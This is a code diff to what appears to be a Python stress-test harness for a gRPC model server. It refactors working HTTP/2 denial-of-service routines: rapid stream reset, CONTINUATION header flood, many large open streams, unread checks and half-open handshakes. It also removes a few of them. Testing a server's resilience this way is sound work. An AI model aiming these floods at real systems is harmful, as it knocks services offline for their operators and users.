@@ -94,12 +94,16 @@ class Connection:
     def length(self):
         return struct.unpack(">I", b"\0" + self.buffer[:3])[0]
 
+    def send_call(self, method=HEALTH, body=b""):
+        """Sends a whole request and returns its stream."""
+        stream = self.next_stream()
+        self.socket.sendall(frame(HEADERS, END_HEADERS, stream, request_headers(method)) +
+                            frame(DATA, END_STREAM, stream, message(body)))
+        return stream
+
     def call(self, method=HEALTH, body=b""):
         """One unary call. Returns the answer's message, None if there was none."""
-        stream, answer = self.next_stream(), None
-        self.socket.sendall(
-            frame(HEADERS, END_HEADERS, stream, request_headers(method)) +
-            frame(DATA, END_STREAM, stream, message(body)))
+        stream, answer = self.send_call(method, body), None
         while True:
             kind, flags, of, payload = self.read()
             if kind == GOAWAY:
@@ -195,122 +199,36 @@ def send_all(connection, data):
     return sent, ends[0] if ends else "open"
 
 
-def rapid_reset(address, count, body=None, method=HEALTH):
+def rapid_reset(address, count):
     """Opens streams and resets each at once."""
-    fields = request_headers(method)
-
-    def chunks():
-        for first in range(1, 2 * count, 1000):
-            out = []
-            for stream in range(first, min(first + 1000, 2 * count), 2):
-                out.append(frame(HEADERS, END_HEADERS, stream, fields))
-                if body is not None:
-                    out.append(frame(DATA, END_STREAM, stream, message(body)))
-                out.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
-            yield b"".join(out)
-
     with Connection(address) as connection:
-        return send_all(connection, chunks())
-
-
-def requests_reset(address, count):
-    """Sends whole requests {prompt "hi", max_tokens 1} and resets each at once."""
-    return rapid_reset(address, count, b"\x12\x04\x0a\x02hi", GENERATE)
+        return send_all(connection, (
+            frame(HEADERS, END_HEADERS, stream, request_headers()) +
+            frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+            for stream in range(1, 2 * count, 2)))
 
 
 def continuation_flood(address, mebibytes):
     """One stream whose headers never end, each frame below the limit of metadata."""
     fields = b"".join(header("x-%d" % i, "y" * 900) for i in range(7))
     chunk = b"".join(frame(CONTINUATION, 0, 1, fields) for _ in range(16))
-
-    def chunks():
-        yield frame(HEADERS, 0, 1, request_headers())
-        for _ in range((mebibytes << 20) // len(chunk)):
-            yield chunk
-
+    first = frame(HEADERS, 0, 1, request_headers())
     with Connection(address) as connection:
-        return send_all(connection, chunks())
-
-
-def long_header(address, mebibytes):
-    """One header whose value never ends."""
-    chunk = frame(CONTINUATION, 0, 1, b"y" * 16384) * 4
-
-    def chunks():
-        yield frame(HEADERS, 0, 1, request_headers() + b"\x00\x01x\x7f\xff\xff\xff\x7f")
-        for _ in range((mebibytes << 20) // len(chunk)):
-            yield chunk
-
-    with Connection(address) as connection:
-        return send_all(connection, chunks())
+        return send_all(connection, [first, *[chunk] * ((mebibytes << 20) // len(chunk))])
 
 
 def many_streams(address, count):
     """Streams with nearly 8 KiB of headers that are opened and left."""
     fields = request_headers(GENERATE, [("x", "y" * 7000)])
-
-    def chunks():
-        for stream in range(1, 2 * count, 2):
-            yield frame(HEADERS, END_HEADERS, stream, fields)
-
     with Connection(address) as connection:
-        return send_all(connection, chunks())
-
-
-class Windows:
-    """The peer's flow-control windows: of the connection and of each stream."""
-
-    def __init__(self):
-        self.whole, self.initial, self.streams = 65535, 65535, {}
-
-    def take(self, kind, flags, stream, payload):
-        if kind == WINDOW_UPDATE and stream == 0:
-            self.whole += struct.unpack(">I", payload)[0]
-        elif kind == WINDOW_UPDATE and stream in self.streams:
-            self.streams[stream] += struct.unpack(">I", payload)[0]
-        elif kind == SETTINGS and not flags & ACK:
-            for i in range(0, len(payload), 6):
-                key, value = struct.unpack(">HI", payload[i:i + 6])
-                if key == 4:
-                    for one in self.streams:
-                        self.streams[one] += value - self.initial
-                    self.initial = value
-
-
-def half_messages(address, mebibytes, length=4 << 20):
-    """Messages of 4 MiB, each on a stream of its own, of which the last byte is never sent. Sends
-    as the windows allow; gives up when they stay shut for a second."""
-    whole = message(b"y" * length)[:-1]
-    windows, sent, end = Windows(), 0, "open"
-    with Connection(address, timeout=1) as connection:
-        try:
-            while sent < mebibytes << 20:
-                stream = connection.next_stream()
-                windows.streams[stream] = windows.initial
-                connection.socket.sendall(
-                    frame(HEADERS, END_HEADERS, stream, request_headers(GENERATE)))
-                start = 0
-                while start < len(whole):
-                    n = min(len(whole) - start, windows.streams[stream], windows.whole, 16384)
-                    if n <= 0:
-                        windows.take(*connection.read())
-                        continue
-                    connection.socket.sendall(frame(DATA, 0, stream, whole[start:start + n]))
-                    windows.streams[stream] -= n
-                    windows.whole -= n
-                    start, sent = start + n, sent + n
-        except TimeoutError:
-            end = "shut"
-        except OSError as error:
-            end = str(error)
-        time.sleep(0.3)
-    return sent, end
+        return send_all(connection, (frame(HEADERS, END_HEADERS, stream, fields)
+                                     for stream in range(1, 2 * count, 2)))
 
 
 def unread_checks(address, count, whole=True):
     """Health checks on eight connections, held for three seconds. Either the windows are shut for
     their answers, or their messages never come. Returns the number of checks."""
-    fields, sent = request_headers(), 0
+    sent = 0
 
     def read_away(connection):
         with contextlib.suppress(OSError):
@@ -324,11 +242,11 @@ def unread_checks(address, count, whole=True):
             connection.answers = False  # two threads would write over each other
             threading.Thread(target=read_away, args=(connection,), daemon=True).start()
             for _ in range(count // 8):
-                stream = connection.next_stream()
-                call = frame(HEADERS, END_HEADERS, stream, fields)
                 if whole:
-                    call += frame(DATA, END_STREAM, stream, message())
-                connection.socket.sendall(call)
+                    connection.send_call()
+                else:
+                    connection.socket.sendall(frame(
+                        HEADERS, END_HEADERS, connection.next_stream(), request_headers()))
                 sent += 1
         time.sleep(3)
     return sent
@@ -349,17 +267,16 @@ def half_handshakes(address, count):
         except OSError:
             closed += 1
     for one in sockets:
-        one.settimeout(max(0.01, 30 - (time.monotonic() - start)))
-        try:
-            while one.recv(4096):
+        with one:
+            one.settimeout(max(0.01, 30 - (time.monotonic() - start)))
+            try:
+                while one.recv(4096):
+                    pass
+                closed += 1
+            except TimeoutError:
                 pass
-            closed += 1
-        except TimeoutError:
-            pass
-        except OSError:
-            closed += 1
-    for one in sockets:
-        one.close()
+            except OSError:
+                closed += 1
     return closed, "closed after %.1f s" % (time.monotonic() - start)
 
 
